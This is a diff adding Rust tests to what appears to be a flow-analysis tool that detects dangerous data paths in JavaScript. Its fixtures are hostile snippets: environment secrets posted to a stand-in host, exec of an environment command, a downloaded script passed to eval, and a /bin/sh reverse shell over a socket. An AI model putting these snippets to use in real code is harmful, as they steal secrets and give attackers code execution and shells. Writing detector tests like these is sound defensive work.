@@ -57,3 +57,49 @@ fn every_stage_sees_the_same_of_the_collector() {
         assert_eq!(seen, expected, "{stage}; SLUICE_KEEP_STAGES=1 keeps what is seen now");
     }
 }
+
+/// A value that a library names is no function, and an argument that must be there is none that is left out.
+#[test]
+fn what_a_library_names_goes_to_the_parameter_at_its_place() {
+    for value in ["process.env", "process.env.TOKEN", "os.hostname", "(() => process.env.TOKEN)()"] {
+        let text = format!(
+            "const os = require('os');\nconst body = JSON.stringify({value}{});\nfetch('https://collect.example.invalid', {{ method: 'POST', body }});\n",
+            if value == "os.hostname" { "()" } else { "" }
+        );
+        let paths = Place::new().file("send.js", &text).run(&["dev", "paths", "send.js"]).stdout;
+        assert!(paths.contains("-> network.send fetch(body)"), "{value}: {paths}");
+    }
+    let text = "const { exec } = require('child_process');\nexec(process.env.COMMAND);\n";
+    let paths = Place::new().file("run.js", text).run(&["dev", "paths", "run.js"]).stdout;
+    assert!(paths.contains("-> process.command"), "{paths}");
+}
+
+/// Known misses in JavaScript. Each passes as long as the flow is not seen, and says why it is not.
+mod known {
+    use crate::place::Place;
+
+    fn paths(text: &str) -> String {
+        Place::new().file("known.js", text).run(&["dev", "paths", "known.js"]).stdout
+    }
+
+    /// A callback's parameter that is stored in a variable of an enclosing function is not replaced by what the
+    /// callback is called with.
+    #[test]
+    fn what_one_callback_collects_for_another_is_not_followed() {
+        let text = "const https = require('https');\nhttps.get('https://code.example.invalid/p.js', (answer) => {\n  let body = '';\n  answer.on('data', (part) => { body += part; });\n  answer.on('end', () => { eval(body); });\n});\n";
+        let paths = paths(text);
+        assert!(paths.contains("parameter part -> code.execute eval(script)"), "{paths}");
+        assert!(
+            !paths.contains("network.response") || !paths.contains("-> code.execute eval(script) proven"),
+            "{paths}"
+        );
+    }
+
+    /// `pipe` writes nothing to what it is given.
+    #[test]
+    fn streams_that_are_piped_into_a_process_are_no_remote_shell() {
+        let text = "const net = require('net');\nconst shell = require('child_process').spawn('/bin/sh', []);\nconst socket = new net.Socket();\nsocket.connect(4444, '192.0.2.7', () => { socket.pipe(shell.stdin); shell.stdout.pipe(socket); });\n";
+        let paths = paths(text);
+        assert!(!paths.contains("-> process.input"), "{paths}");
+    }
+}
